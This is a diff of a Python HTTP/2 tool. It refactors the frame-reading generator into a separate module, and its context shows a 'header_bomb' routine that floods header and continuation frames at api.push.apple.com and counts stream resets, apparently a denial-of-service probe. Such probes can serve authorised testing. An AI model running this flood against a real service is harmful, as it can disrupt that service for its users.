@@ -24,7 +24,9 @@ import time
 import urllib.error
 import urllib.request
 
-from hyperframe.frame import ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame
+from hyperframe.frame import ContinuationFrame, GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame
+
+from raw_frames import frames
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HOST = "api.push.apple.com"
@@ -56,29 +58,6 @@ def literal(name, value, indexing=False):
     return (b"\x40" if indexing else b"\x00") + string(name) + string(value)
 
 
-def frames(sock, seconds):
-    """Yields the frames the server sends for up to `seconds`, then stops (also at EOF)."""
-    sock.settimeout(0.5)
-    buffer, deadline = b"", time.monotonic() + seconds
-    while time.monotonic() < deadline:
-        try:
-            data = sock.recv(65536)
-        except socket.timeout:
-            continue
-        except (ssl.SSLError, OSError):
-            return
-        if not data:
-            return
-        buffer += data
-        while len(buffer) >= 9:
-            frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
-            if len(buffer) < 9 + length:
-                break
-            frame.parse_body(memoryview(buffer[9:9 + length]))
-            buffer = buffer[9 + length:]
-            yield frame
-
-
 def header_bomb(args):
     sock = connect(args)
     sock.sendall(PREFACE + SettingsFrame(0).serialize())
@@ -96,6 +75,8 @@ def header_bomb(args):
             sock.sendall(frame.serialize())
     resets = 0
     for frame in frames(sock, 10):
+        if isinstance(frame, str):
+            break
         if isinstance(frame, RstStreamFrame):
             print(f"RST_STREAM {frame.stream_id} {frame.error_code}", flush=True)
             resets += 1
